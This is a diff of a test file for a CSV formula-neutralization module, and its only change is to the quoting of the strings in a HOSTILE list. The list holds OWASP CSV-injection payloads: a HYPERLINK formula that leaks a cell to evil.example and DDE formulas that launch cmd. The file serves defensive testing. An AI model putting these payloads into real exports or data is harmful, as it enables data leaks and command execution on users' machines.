@@ -3,9 +3,9 @@ import { neutralizeFormula, parseCsv, restoreFormula, toSpreadsheetCsvLine } fro
 /** OWASP's CSV injection payloads, as an editor could write them into catalog text. */
 const HOSTILE = [
   '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
-  '+1+cmd|\' /C calc\'!A0',
-  '-2+3+cmd|\' /C calc\'!A0',
-  '@SUM(1+9)*cmd|\' /C calc\'!A0',
+  "+1+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+9)*cmd|' /C calc'!A0",
   '\t=1+1',
   '\r=1+1',
 ];
